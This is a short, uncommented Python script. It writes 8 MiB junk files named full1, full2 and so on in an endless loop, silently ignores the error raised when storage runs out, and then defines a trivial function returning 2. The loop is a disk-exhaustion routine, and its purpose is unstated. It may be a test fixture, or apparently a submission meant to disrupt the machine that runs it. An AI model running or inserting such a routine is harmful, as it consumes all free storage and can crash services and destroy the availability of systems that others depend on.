import os
n = 0
try:
    while True:
        n += 1
        with open(f"full{n}", "wb") as file:
            file.write(b"x" * (8 << 20))
except OSError:
    pass
def f(): return 2
